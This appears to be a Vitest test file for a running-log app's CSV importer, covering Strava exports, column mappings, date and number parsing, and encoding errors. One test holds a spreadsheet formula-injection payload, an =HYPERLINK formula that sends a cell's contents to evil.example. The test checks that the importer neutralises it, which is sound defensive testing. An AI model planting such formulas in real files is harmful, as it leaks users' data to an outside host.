import { describe, expect, it } from 'vitest'
import { parseRunFile, type CsvMapping } from '../../../electron/services/import/index'
import { parseCsvDate, parseCsvNumber, parseStravaDate } from '../../../electron/services/import/csv'
import { fixture, text } from './helpers'

const genericMapping: CsvMapping = {
  date: 'Day',
  distance: 'Km',
  distanceUnit: 'km',
  duration: 'Time',
  painDuring: 'Pain (during)',
  painAfter: 'Pain after',
  painNextMorning: 'Morning pain',
  painOnsetDistance: 'Onset km',
  shoes: 'Shoes',
  notes: 'Notes',
}

describe('Strava activities.csv', () => {
  const parse = (timeZone: string) => parseRunFile('activities.csv', fixture('strava-activities.csv'), { timeZone })

  it('is detected and imports only runs, reading the metres column', () => {
    const p = parse('Europe/Paris')
    expect(p.format).toBe('strava-csv')
    expect(p.fileProblems).toEqual([])
    expect(p.rows.map((r) => [r.rowNumber, r.run?.distanceKm ?? null])).toEqual([
      [2, 5.012],
      [3, null],
      [4, null],
      [5, 8.021],
      [6, 10.52],
      [7, null],
    ])
    // "Morning Run" is the app's default name, not the athlete's words; the description is.
    expect(p.rows[0]?.run).toEqual({ date: '2024-03-31', distanceKm: 5.012, durationSec: 1800, notes: 'Easy loop', source: { kind: 'csv', key: 'strava:11223344551' } })
    expect(p.rows[0]?.details).toMatchObject({ sport: 'run', name: 'Morning Run', startTime: '2024-03-31 09:10', timeZone: 'Europe/Paris', timeZoneSource: 'computer' })
    expect(p.rows[1]?.problems).toEqual(['Skipped: this activity is ride, not a run.'])
    expect(p.rows[1]?.details?.name).toBe('Evening Ride')
    expect(p.rows[2]?.problems).toEqual(['Skipped: the Activity Date "someday soon" is not a date.'])
    expect(p.rows[4]?.run).toMatchObject({ date: '2024-04-06', durationSec: 4200 }) // Trail Run counts
    expect(p.rows[5]?.problems).toEqual(['Skipped: this activity is walk, not a run.'])
    expect(p.warnings).toBeUndefined()
  })

  it('converts the UTC Activity Date to the local calendar date', () => {
    // "Apr 2, 2024, 11:30:00 PM" UTC is 3 April in Paris and still 2 April in New York.
    expect(parse('Europe/Paris').rows[3]?.run?.date).toBe('2024-04-03')
    expect(parse('America/New_York').rows[3]?.run?.date).toBe('2024-04-02')
  })

  it('keys rows by activity id: parsing twice gives the same keys, all unique', () => {
    const keys = (p: ReturnType<typeof parse>) => p.rows.flatMap((r) => (r.run ? [r.run.source?.key] : []))
    expect(keys(parse('UTC'))).toEqual(keys(parse('UTC')))
    expect(new Set(keys(parse('UTC'))).size).toBe(3)
  })

  it('notices a miles account from the two Distance columns', () => {
    const csv = 'Activity ID,Activity Date,Activity Type,Elapsed Time,Distance,Elapsed Time,Distance\n1,"Jan 5, 2024, 7:00:00 AM",Run,1800,3.11,1800.0,5005.0\n'
    const p = parseRunFile('activities.csv', text(csv), { timeZone: 'UTC' })
    expect(p.rows[0]?.run?.distanceKm).toBe(5.005)
    expect(p.warnings?.[0]).toMatch(/shows miles/)
  })

  it('with only one Distance column, reads km and says so', () => {
    const csv = 'Activity ID,Activity Date,Activity Type,Elapsed Time,Distance\n1,"5 Jan 2024, 07:00:00",Run,1800,"5,5"\n'
    const p = parseRunFile('activities.csv', text(csv), { timeZone: 'UTC' })
    expect(p.rows[0]?.run).toMatchObject({ date: '2024-01-05', distanceKm: 5.5, durationSec: 1800 })
    expect(p.warnings?.[0]).toMatch(/read as kilometres/)
  })

  it('an export with a header only is a file problem', () => {
    const p = parseRunFile('activities.csv', text('Activity ID,Activity Date,Activity Type,Distance\n'))
    expect(p.fileProblems[0]).toMatch(/no activities/)
  })
})

describe('generic CSV', () => {
  it('without a mapping returns the headers and asks for one', () => {
    const p = parseRunFile('log.csv', fixture('generic.csv'))
    expect(p.format).toBe('csv')
    expect(p.rows).toEqual([])
    expect(p.csvHeaders).toEqual(['Day', 'Km', 'Time', 'Pain (during)', 'Pain after', 'Morning pain', 'Onset km', 'Shoes', 'Notes'])
    expect(p.fileProblems[0]).toMatch(/Choose which columns hold the date and the distance/)
  })

  it('with a mapping: day/month/year detected from 25/03, durations, pains and per-row problems', () => {
    const p = parseRunFile('log.csv', fixture('generic.csv'), { csvMapping: genericMapping })
    expect(p.fileProblems).toEqual([])
    expect(p.rows).toHaveLength(6)
    expect(p.rows[0]?.run).toEqual({
      date: '2024-03-25',
      distanceKm: 6.2,
      durationSec: 32 * 60 + 10,
      painDuring: 2,
      painAfter: 3,
      painNextMorning: 1,
      shoes: 'Pegasus',
      notes: 'easy',
      source: { kind: 'csv', key: 'csv:2024-03-25:6.200:1930' },
    })
    expect(p.rows[1]?.run).toMatchObject({ date: '2024-03-27', painOnsetKm: 6, notes: 'calf tight from 6 km, stopped at 8' })
    expect(p.rows[2]?.run).toMatchObject({ date: '2024-04-03', durationSec: 1650 }) // 03/04 read as 3 April
    expect(p.rows[3]).toEqual({ rowNumber: 5, run: null, problems: ['Skipped: the distance is empty.'] })
    expect(p.rows[4]?.run?.painDuring).toBeUndefined()
    expect(p.rows[4]?.problems).toEqual(['Pain during 12 is outside 0–10 and was left out.'])
    expect(p.rows[5]).toEqual({ rowNumber: 7, run: null, problems: ['Skipped: "31/02/2024" is not a date.'] })
  })

  it('distance units: miles and metres', () => {
    const csv = 'date,dist\n2024-05-01,3.1\n2024-05-02,"5,000"\n'
    const mi = parseRunFile('a.csv', text(csv), { csvMapping: { date: 'date', distance: 'dist', distanceUnit: 'mi' } })
    expect(mi.rows[0]?.run?.distanceKm).toBe(4.989) // 3.1 × 1.609344 = 4.9889664
    const m = parseRunFile('a.csv', text('date,dist\n2024-05-01,5012\n2024-05-02,"5,500.5"\n'), { csvMapping: { date: 'date', distance: 'dist', distanceUnit: 'm' } })
    expect(m.rows.map((r) => r.run?.distanceKm)).toEqual([5.012, 5.501])
  })

  it('asks for a date format when d/m vs m/d cannot be told, and honours an explicit one', () => {
    const csv = 'date,km\n03/04/2024,5\n05/05/2024,6\n'
    const auto = parseRunFile('a.csv', text(csv), { csvMapping: { date: 'date', distance: 'km', distanceUnit: 'km' } })
    expect(auto.rows[0]?.run).toBeNull()
    expect(auto.rows[0]?.problems[0]).toMatch(/could be day\/month or month\/day/)
    expect(auto.rows[1]?.run?.date).toBe('2024-05-05')
    const mdy = parseRunFile('a.csv', text(csv), { csvMapping: { date: 'date', distance: 'km', distanceUnit: 'km', dateFormat: 'mdy' } })
    expect(mdy.rows[0]?.run?.date).toBe('2024-03-04')
    const detected = parseRunFile('a.csv', text(csv + '04/13/2024,7\n'), { csvMapping: { date: 'date', distance: 'km', distanceUnit: 'km' } })
    expect(detected.rows.map((r) => r.run?.date)).toEqual(['2024-03-04', '2024-05-05', '2024-04-13'])
  })

  it('a mapping that names a missing column is a file problem', () => {
    const p = parseRunFile('log.csv', fixture('generic.csv'), { csvMapping: { ...genericMapping, painAfter: 'Pain later' } })
    expect(p.rows).toEqual([])
    expect(p.fileProblems).toEqual(['The mapping uses the column "Pain later" for pain after, but the file has no such column.'])
    expect(p.csvHeaders).toHaveLength(9)
  })

  it('duplicate rows get distinct, stable keys; an id column wins', () => {
    const csv = 'date,km,id\n2024-05-01,5,a1\n2024-05-01,5,a2\n'
    const noId = parseRunFile('a.csv', text(csv), { csvMapping: { date: 'date', distance: 'km', distanceUnit: 'km' } })
    expect(noId.rows.map((r) => r.run?.source?.key)).toEqual(['csv:2024-05-01:5.000:', 'csv:2024-05-01:5.000:#2'])
    const withId = parseRunFile('a.csv', text(csv), { csvMapping: { date: 'date', distance: 'km', distanceUnit: 'km', id: 'id' } })
    expect(withId.rows.map((r) => r.run?.source?.key)).toEqual(['csv:id:a1', 'csv:id:a2'])
  })

  it('keeps formula-looking text as plain text with a warning, and refuses formulas as numbers', () => {
    const p = parseRunFile('formulas.csv', fixture('formulas.csv'), {
      csvMapping: { date: 'date', distance: 'distance', distanceUnit: 'km', notes: 'notes', shoes: 'shoes' },
    })
    expect(p.rows[0]?.run?.notes).toBe('=HYPERLINK("http://evil.example/?d="&A1,"click me")')
    expect(p.rows[0]?.problems).toEqual(['The notes cell starts like a spreadsheet formula; it is kept as plain text and never run.'])
    expect(p.rows[1]).toEqual({ rowNumber: 3, run: null, problems: ['Skipped: the distance "=1+9" is not a number.'] })
    expect(p.rows[2]?.problems).toHaveLength(2)
    expect(p.rows[3]?.problems).toEqual([]) // "- felt fine" is ordinary text
  })

  it('refuses a short or a long row with its row number, never shifting values into other columns', () => {
    const mapping: CsvMapping = { date: 'date', distance: 'km', distanceUnit: 'km', notes: 'notes' }
    const p = parseRunFile('a.csv', text('date,km,notes\n2024-05-01,5\n2024-05-02,6,easy,extra\n2024-05-03,7,ok\n'), { csvMapping: mapping })
    expect(p.rows.map((r) => [r.rowNumber, r.run?.distanceKm ?? null])).toEqual([
      [2, null],
      [3, null],
      [4, 7],
    ])
    expect(p.rows[0]?.problems).toEqual([
      'Skipped: row 2 has 2 of the 3 cells the header names, so the file was probably cut short in this row; its values would land in the wrong columns.',
    ])
    expect(p.rows[1]?.problems[0]).toMatch(/^Skipped: row 3 has 4 cells but the header names 3/)
  })

  it('refuses the UTF-16 copy, an unclosed quote, and XML named .csv', () => {
    const utf16 = parseRunFile('generic-utf16.csv', fixture('generic-utf16.csv'))
    expect(utf16.rows).toEqual([])
    expect(utf16.fileProblems[0]).toMatch(/UTF-16/)
    const mapping: CsvMapping = { date: 'date', distance: 'km', distanceUnit: 'km' }
    const quote = parseRunFile('a.csv', text('date,km\n"2024-05-01,5\n2024-05-02,6\n2024-05-03,7\n'), { csvMapping: mapping })
    expect(quote.fileProblems[0]).toMatch(/quoted cell is never closed \(row 2\)/)
    // Open in the last row only: the file was cut there; the rows before it are fine.
    const cut = parseRunFile('a.csv', text('date,km\n2024-05-02,6\n"2024-05-03,7'), { csvMapping: mapping })
    expect(cut.fileProblems).toEqual([])
    expect(cut.rows.map((r) => r.run?.distanceKm ?? r.problems[0])).toEqual([6, 'Skipped: row 3 ends inside a quoted cell, so the file was cut short there; its values cannot be trusted.'])
    expect(parseRunFile('a.csv', fixture('run.gpx')).fileProblems[0]).toMatch(/XML/)
  })

  it('refuses Windows-1252 text with a clear encoding message', () => {
    const latin1 = new Uint8Array([...new TextEncoder().encode('date,km,notes\n2024-05-01,5,caf'), 0xe9, 0x0a])
    const p = parseRunFile('a.csv', latin1)
    expect(p.rows).toEqual([])
    expect(p.fileProblems[0]).toMatch(/not valid UTF-8/)
  })

  it('reads a UTF-8 BOM file (Excel "CSV UTF-8")', () => {
    const bom = new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode('date,km\n2024-05-01,5\n')])
    const p = parseRunFile('a.csv', bom, { csvMapping: { date: 'date', distance: 'km', distanceUnit: 'km' } })
    expect(p.rows[0]?.run?.date).toBe('2024-05-01')
  })
})

describe('cell parsers', () => {
  it('parseCsvNumber', () => {
    expect(parseCsvNumber('5.2')).toBe(5.2)
    expect(parseCsvNumber('5,2')).toBe(5.2)
    expect(parseCsvNumber('1,234.5')).toBe(1234.5)
    expect(parseCsvNumber('1.234,5')).toBe(1234.5)
    expect(parseCsvNumber(' ')).toBeNull()
    expect(parseCsvNumber('=1+1')).toBeNaN()
    expect(parseCsvNumber('5 km')).toBeNaN()
  })
  it('parseStravaDate', () => {
    expect(parseStravaDate('Mar 31, 2024, 7:10:00 AM')).toBe(Date.UTC(2024, 2, 31, 7, 10))
    expect(parseStravaDate('Mar 31, 2024, 12:05:00 AM')).toBe(Date.UTC(2024, 2, 31, 0, 5))
    expect(parseStravaDate('Mar 31, 2024, 12:05:00 PM')).toBe(Date.UTC(2024, 2, 31, 12, 5))
    expect(parseStravaDate('31 Mar 2024, 19:10:00')).toBe(Date.UTC(2024, 2, 31, 19, 10))
    expect(parseStravaDate('2024-03-31 07:10:00')).toBe(Date.UTC(2024, 2, 31, 7, 10))
    expect(parseStravaDate('2024-03-31T09:10:00+02:00')).toBe(Date.UTC(2024, 2, 31, 7, 10))
    expect(parseStravaDate('Feb 30, 2024, 7:10:00 AM')).toBeNull()
    expect(parseStravaDate('13:00 yesterday')).toBeNull()
  })
  it('parseCsvDate', () => {
    expect(parseCsvDate('2024-03-31', 'auto', null)).toBe('2024-03-31')
    expect(parseCsvDate('2024-03-31T23:30:00Z', 'auto', null)).toBe('2024-03-31') // the written date, no zone shift
    expect(parseCsvDate('31.03.2024', 'auto', null)).toBe('2024-03-31')
    expect(parseCsvDate('03/31/2024', 'auto', null)).toBe('2024-03-31')
    expect(parseCsvDate('03/04/2024', 'auto', null)).toBe('ambiguous')
    expect(parseCsvDate('03/04/2024', 'auto', 'dmy')).toBe('2024-04-03')
    expect(parseCsvDate('03/04/2024', 'ymd', null)).toBeNull()
    expect(parseCsvDate('Apr 3, 2024', 'auto', null)).toBe('2024-04-03')
  })
})
